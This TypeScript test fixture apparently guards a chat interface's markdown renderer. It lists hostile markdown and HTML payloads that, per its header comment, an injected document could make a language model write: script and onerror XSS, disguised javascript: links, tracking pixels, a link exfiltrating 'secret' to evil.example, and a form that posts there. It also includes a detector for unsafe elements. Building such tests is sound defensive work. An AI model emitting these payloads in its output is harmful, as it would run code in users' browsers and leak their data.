/** What a language model may be made to write, by whoever wrote a document that it read. Some hold characters of several bytes. */
export const hostileMarkdown = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![tracker](https://evil.example/pixel.gif)',
  '![tracker][1]\n\n[1]: https://evil.example/pixel.gif',
  '[![x](https://evil.example/p.gif)](https://evil.example/?q=secret)',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox)',
  '[click](blob:https://evil.example/1)',
  '[click](//evil.example/a)',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover="alert(1)>',
  '<a href="https://evil.example" onclick="alert(1)">x</a>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<form action=https://evil.example><input name=p><button>ok</button></form>',
  '<button data-citation="1" class="cite">9</button>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '[a](https://x.example/"onmouseover="alert(1))',
  '[a](https://x.example "title\\" onmouseover=alert(1)")',
  '`<img src=x onerror=alert(1)>`',
  '```html" onmouseover="alert(1)\n<img src=x onerror=alert(1)>\n```',
  '<div style="position:fixed;inset:0">over everything</div>',
  '[x]: https://evil.example "title"\n\n![x]',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input autofocus onfocus=alert(1)>\n- [click](javascript:alert(1))',
  'Grüße 漢字 🧵 <img src=🧵 onerror=alert("ü")> [日本](javascript:alert(1)) 👩‍👩‍👧',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '$\\href{javascript:alert(1)}{x}$ and \\(\\url{https://evil.example}\\)',
  '$$\\text{<img src=x onerror=alert(1)>}$$',
  '\\[\\style{position:fixed}{\\class{cite}{x}}\\]',
  '$\\includegraphics{https://evil.example/a.png}$',
  '$\\color{red}\\text{</mtext><script>alert(1)</script>}\\rule{900em}{900em}$',
  '$x_{<img src=x onerror=alert(1)>}$',
];

const harmlessTags = new Set(['P', 'EM', 'STRONG', 'DEL', 'CODE', 'PRE', 'A', 'SPAN', 'BR', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'HR', 'H3', 'H4', 'H5', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD']);
const harmlessAttributes = new Set(['href', 'rel', 'target', 'class', 'start', 'align']);

const mathNamespace = 'http://www.w3.org/1998/Math/MathML';
const harmlessMath = /^(?:math|m[ions]|mtext|mspace|mrow|mfrac|msqrt|mroot|mstyle|mpadded|mphantom|menclose|msub|msup|msubsup|munder|mover|munderover|mtable|mtr|mtd)$/;
/** Marks, sizes and places within a formula. */
const harmlessMathAttributes = /^(?:display|displaystyle|scriptlevel|mathvariant|accent|accentunder|linethickness|notation|form|fence|separator|stretchy|symmetric|largeop|movablelimits|minsize|maxsize|[lr]space|width|height|depth|voffset|class)$/;

/** A citation's numeral, which `[1]` makes: it opens a passage of ours. */
const citationMark = (element: Element): boolean => element.matches('span.cited > button.cite') && element.textContent === (element as HTMLElement).dataset['citation'];

/** What is in the element that could act or fetch by itself, or lead elsewhere than it says; empty when nothing is. */
export function harmful(host: Element): string[] {
  return [...host.querySelectorAll('*')].flatMap((element) => {
    if (citationMark(element)) return [];
    if (element.namespaceURI === mathNamespace && harmlessMath.test(element.localName)) {
      return [...element.attributes].filter(({ name }) => !harmlessMathAttributes.test(name)).map(({ name }) => `${element.localName} with ${name}`);
    }
    const found = [...element.attributes].filter(({ name }) => !harmlessAttributes.has(name)).map(({ name }) => `${element.tagName} with ${name}`);
    if (!harmlessTags.has(element.tagName)) found.push(element.tagName);
    if (element.tagName === 'A') found.push(...harmfulLink(element as HTMLAnchorElement));
    return found;
  });
}

function harmfulLink(link: HTMLAnchorElement): string[] {
  const href = link.getAttribute('href') ?? '';
  if (!/^https?:\/\//.test(href)) return [`a link to ${href}`];
  const { host } = new URL(href);
  const shown = `${link.textContent ?? ''}${link.nextElementSibling?.className === 'host' ? (link.nextElementSibling.textContent ?? '') : ''}`;
  return shown.includes(host.replace(/^www\./, '')) ? [] : [`a link to ${host} that reads ${shown}`];
}

/** The text as it stands after each of its bytes has come, as a reader of a stream decodes it. */
export function* byteByByte(text: string): Generator<string> {
  const decoder = new TextDecoder();
  let seen = '';
  for (const byte of new TextEncoder().encode(text)) {
    const more = decoder.decode(Uint8Array.of(byte), { stream: true });
    if (more === '') continue;
    seen += more;
    yield seen;
  }
}
